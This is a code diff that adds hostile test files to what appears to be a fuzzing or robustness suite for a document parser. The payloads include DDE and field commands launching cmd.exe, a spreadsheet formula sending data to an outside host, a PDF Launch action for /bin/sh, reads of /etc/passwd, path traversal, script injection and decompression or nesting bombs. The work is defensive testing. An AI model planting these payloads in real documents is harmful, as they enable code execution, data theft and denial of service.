@@ -14,6 +14,7 @@ from base64 import b64encode
 from collections.abc import Callable, Mapping
 from dataclasses import dataclass
 from functools import cache
+from gzip import compress
 from hashlib import md5
 from itertools import cycle
 from pathlib import Path
@@ -60,10 +61,13 @@ def sheet(data: str, /, **parts: Any) -> bytes:
             "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
             'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
             'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
+            "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{R}/officeDocument" '
+            'Target="xl/workbook.xml"/></Relationships>',
             "xl/workbook.xml": f'<workbook {SHEET} xmlns:r="{R}"><sheets><sheet name="&lt;b&gt;" sheetId="1" r:id="r1"/></sheets></workbook>',
             "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{R}/worksheet" '
             f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{R}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
             "xl/worksheets/sheet1.xml": f"<worksheet {SHEET}>{data}</worksheet>",
+            "xl/sharedStrings.xml": f"<sst {SHEET}/>",
             **parts,
         }
     )
@@ -238,6 +242,13 @@ def _huge_image_pdf() -> bytes:
     return pdf(CATALOGUE, PAGES, page, stream(b"q 595 0 0 842 0 0 cm /I Do Q"), image)
 
 
+def _many_sheets(count: int) -> bytes:
+    """A workbook of very many sheets, all of them one and the same part."""
+    listed = "".join(f'<sheet name="s{at}" sheetId="{at + 1}" r:id="r1"/>' for at in range(count))
+    book = f'<workbook {SHEET} xmlns:r="{R}"><sheets>{listed}</sheets></workbook>'
+    return sheet('<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>', **{"xl/workbook.xml": book})
+
+
 def _cut(data: bytes) -> bytes:
     return data[: len(data) * 2 // 5]
 
@@ -252,6 +263,50 @@ def _wordml(head: str) -> bytes:
 
 def _report_page(title: str, extra: str = "") -> bytes:
     return f"<html><head><title>{title}</title></head><body><h1>{title}</h1><p>一、总体情况</p><p>本镇认真贯彻。</p>{extra}</body></html>".encode()
+
+
+def _nested_mail(depth: int) -> bytes:
+    """A message within a message, so many deep, with a report at the bottom."""
+    data = _mail("报告.txt", TITLE.encode())
+    for at in range(depth):
+        data = (
+            (
+                f'From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="n{at}"\r\n\r\n--n{at}\r\n'
+                "Content-Type: message/rfc822\r\n\r\n"
+            ).encode()
+            + data
+            + f"\r\n--n{at}--\r\n".encode()
+        )
+    return data
+
+
+def _looping_forms() -> bytes:
+    """A page that draws a form which draws itself, and one that doubles at each of twenty levels."""
+    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</F 5 0 R/G 6 0 R>>>>>>"
+    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]"
+    itself = stream(b"/F Do", form + b"/Resources<</XObject<</F 5 0 R>>>>")
+    doubling = [stream(b"/G Do /G Do", form + b"/Resources<</XObject<</G %d 0 R>>>>" % (at + 7)) for at in range(20)]
+    return pdf(CATALOGUE, PAGES, page, stream(b"/F Do /G Do"), itself, *doubling, stream(b"0 0 m 9 9 l S", form))
+
+
+def _ofd(location: str, pages: int = 1, content: str = "") -> bytes:
+    """An OFD whose document and pages lie where it is told."""
+    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
+    listed = "".join(f'<ofd:Page ID="{at + 1}" BaseLoc="{location}"/>' for at in range(pages))
+    return zipped(
+        {
+            "OFD.xml": f"<ofd:OFD {space}><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
+            "Doc_0/Document.xml": f"<ofd:Document {space}><ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox>"
+            f"</ofd:PageArea></ofd:CommonData><ofd:Pages>{listed}</ofd:Pages></ofd:Document>",
+            "Doc_0/Pages/Page_0/Content.xml": f"<ofd:Page {space}><ofd:Content><ofd:Layer>{content}</ofd:Layer></ofd:Content></ofd:Page>",
+        }
+    )
+
+
+def _relations(name: str, kind: str, target: str) -> dict[str, str]:
+    """A part's relation to something outside of the file."""
+    one = f'<Relationship Id="x" Target="{target}" TargetMode="External" Type="{R}/{kind}"/>'
+    return {name: f'<Relationships xmlns="{RELATIONS}">{one}</Relationships>'}
 
 
 @dataclass(frozen=True, slots=True)
@@ -298,7 +353,42 @@ FILES: Mapping[str, Hostile] = {
     "mail-climbing.eml": odd(lambda: _mail("../../../evil.txt", TITLE.encode())),
     "mail-deep.eml": any_way(_deep_mail),
     "mail-bomb.eml": bad(lambda: _mail("a.zip", _branching_zip())),
+    "zip-empty.zip": any_way(lambda: zipped({})),
+    "zip-in-pdf.pdf": any_way(lambda: pdf(CATALOGUE, PAGES, b"<</Type/Page/Parent 2 0 R>>") + zipped({"a.txt": TITLE})),
+    "archive.rar": bad(lambda: b"Rar!\x1a\x07\x01\x00" + bytes(900), "RAR"),
+    "archive.7z": bad(lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(900), "7z"),
+    "rar.docx": bad(lambda: b"Rar!\x1a\x07\x01\x00" + bytes(900), "RAR"),
+    "archive.gz": bad(lambda: compress(TITLE.encode() * 900, mtime=0)),
+    "mail-nested.eml": any_way(lambda: _nested_mail(50)),
+    "mail-external.eml": any_way(
+        lambda: (
+            b'From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; access-type="local-file"; name="/etc/passwd"\r\n\r\nx'
+        )
+    ),
     # Word
+    "word-template.docx": odd(
+        lambda: word(
+            PARAGRAPH,
+            **{"word/settings.xml": f'<w:settings {W} xmlns:r="{R}"><w:attachedTemplate r:id="x"/></w:settings>'},
+            **_relations("word/_rels/settings.xml.rels", "attachedTemplate", "http://example.org/evil.dotm"),
+        )
+    ),
+    "word-fields.docx": odd(
+        lambda: word(
+            PARAGRAPH + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:fldSimple w:instr="INCLUDETEXT &quot;/etc/passwd&quot;"/></w:p>'
+        )
+    ),
+    "word-nul.docx": any_way(lambda: bytes(90_000)),
+    "word-formulas.docx": any_way(
+        lambda: word(
+            PARAGRAPH
+            + "<w:p>"
+            + '<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:num>' * 3_000
+            + "</m:num></m:f>" * 3_000
+            + "</w:p>"
+        )
+    ),
     "xml-laughs.docx": bad(lambda: word("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", LAUGHS)),
     "xml-fetch.docx": bad(lambda: word("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", FETCH), "实体"),
     "word-outside.docx": odd(
@@ -342,7 +432,27 @@ FILES: Mapping[str, Hostile] = {
     "page-laughs.html": odd(lambda: LAUGHS.encode() + _report_page(TITLE, "&j;")),
     "page-bad-utf8.html": odd(lambda: _report_page(TITLE).replace("本镇".encode(), b"\xff\xc0\xaf\xed\xa0\x80") + "正文".encode() * 200),
     "page-cut.html": any_way(lambda: _cut(sound("html"))),
+    "page-million-columns.html": any_way(
+        lambda: _report_page(TITLE, "<table>" + "<tr><td colspan=1000000>1<td colspan=1000000>2" * 200 + "</table>")
+    ),
+    "page-drawing.html": odd(
+        lambda: _report_page(
+            TITLE,
+            "<svg>"
+            + "".join(f'<g id="s{at}">{f"<use href=#s{at - 1} />" * 10}</g>' for at in range(1, 30))
+            + '<script>alert(1)</script><foreignObject><iframe src="file:///etc/passwd"></iframe></foreignObject></svg>',
+        )
+    ),
+    "page-formula.html": any_way(lambda: _report_page(TITLE, "<math>" + "<mrow><msup>" * 20_000 + "x" + "</msup></mrow>" * 20_000 + "</math>")),
+    "page-styles.html": any_way(
+        lambda: _report_page(
+            TITLE, "<style>" + "".join(f".c{at}{{display:none}}" for at in range(60_000)) + "</style>" + "<p class=c1 style=display:none>x" * 9_000
+        )
+    ),
+    "page-attributes.html": any_way(lambda: _report_page(TITLE, "<p " + " ".join(f"a{at}=1" for at in range(120_000)) + ">x</p>")),
+    "page-comments.html": any_way(lambda: _report_page(TITLE, "<!--" * 200_000)),
     # text
+    "text-wide-unmarked.txt": odd(lambda: (TITLE + "\n一、总体情况\n本镇认真贯彻。\n" * 20).encode("utf-16-le")),
     "text-zeros.txt": any_way(lambda: TITLE.encode() + bytes(9_000)),
     "text-controls.txt": any_way(lambda: (TITLE + "\x1b[2J\x1b]0;evil\x07\x08" * 200).encode()),
     "text-one-line.txt": any_way(lambda: TITLE.encode() + b"\n" + "字".encode() * 5 * MEGABYTE),
@@ -382,10 +492,40 @@ FILES: Mapping[str, Hostile] = {
             + "</mergeCells>"
         )
     ),
+    "sheet-commands.xlsx": odd(
+        lambda: sheet(
+            f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{TITLE}</t></is></c><c r="B1"><f>cmd|\'/c calc\'!A0</f><v>1</v></c>'
+            '<c r="C1"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>2</v></c></row></sheetData>'
+        )
+    ),
+    "sheet-outside.xlsx": any_way(
+        lambda: sheet(
+            '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>',
+            **_relations("xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "file:///etc/passwd"),
+        )
+    ),
+    "sheet-protected.xlsx": bad(lambda: COMPOUND + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(900), "密码"),
+    "sheet-many.xlsx": any_way(lambda: _many_sheets(3_000)),
     "sheet-cut.xlsx": bad(lambda: _cut(sound("xlsx"))),
     "sheet-old.xls": bad(lambda: COMPOUND + bytes(504) + "Workbook".encode("utf-16-le") + bytes(900)),
     # PDF
     "pdf-loop.pdf": bad(lambda: pdf(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>")),
+    "pdf-forms.pdf": any_way(_looping_forms),
+    "pdf-nothing.pdf": Hostile(lambda: b"", ("empty",)),
+    "pdf-nul.pdf": any_way(lambda: b"%PDF-1.7\n" + bytes(90_000)),
+    "pdf-actions.pdf": any_way(
+        lambda: pdf(
+            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>/AA<</WC<</S/URI/URI(http://example.org)>>>>>>",
+            PAGES,
+            b"<</Type/Page/Parent 2 0 R>>",
+        )
+    ),
+    "pdf-saved-states.pdf": any_way(
+        lambda: pdf(CATALOGUE, PAGES, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>", stream(b"q " * 900_000))
+    ),
+    "pdf-arrays.pdf": any_way(
+        lambda: pdf(b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 90_000 + b"]" * 90_000 + b">>", PAGES, b"<</Type/Page/Parent 2 0 R>>")
+    ),
     "pdf-pages.pdf": bad(_many_pages),
     "pdf-layers.pdf": any_way(_layered_pdf),
     "pdf-protected.pdf": bad(_protected_pdf, "密码"),
@@ -406,9 +546,26 @@ FILES: Mapping[str, Hostile] = {
     # other
     "ofd-laughs.ofd": bad(lambda: zipped({"OFD.xml": f"{LAUGHS}<OFD>&j;</OFD>"})),
     "ofd-cut.ofd": bad(lambda: _cut(zipped({"OFD.xml": os.urandom(9_000)}))),
+    "ofd-climbing.ofd": any_way(lambda: _ofd("../../../../etc/passwd")),
+    "ofd-pages.ofd": any_way(lambda: _ofd("Pages/Page_0/Content.xml", 100_000)),
+    "ofd-letters.ofd": any_way(
+        lambda: _ofd(
+            "Pages/Page_0/Content.xml",
+            content='<ofd:TextObject ID="9" Boundary="0 0 1e308 -1e308" Font="1" Size="1e308"><ofd:TextCode X="1e308" Y="nan" DeltaX="g 99999999 1">'
+            "字</ofd:TextCode></ofd:TextObject>" * 500,
+        )
+    ),
     "ofd-bomb.ofd": bad(lambda: _bomb("OFD.xml")),
     "doc-noise.doc": bad(lambda: COMPOUND + bytes(504) + "WordDocument".encode("utf-16-le") + os.urandom(9_000)),
     "rtf-nested.rtf": any_way(lambda: b"{\\rtf1" + b"{" * 90_000 + b"x" + b"}" * 90_000 + b"}"),
+    "rtf-object.rtf": any_way(
+        lambda: (
+            b"{\\rtf1{\\object\\objocx{\\*\\objdata "
+            + b"d0cf11e0" * 9_000
+            + b'}}{\\field{\\*\\fldinst INCLUDEPICTURE "file:///etc/passwd"}}\\bin999999999 x}'
+        )
+    ),
+    "picture.svg": any_way(lambda: f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>{TITLE}</text></svg>'.encode()),
     "odt-bomb.odt": any_way(lambda: _bomb("content.xml", ("mimetype", "application/vnd.oasis.opendocument.text"))),
     "wordml-fetch.xml": any_way(lambda: _wordml(FETCH)),
     # one thing under the name of another
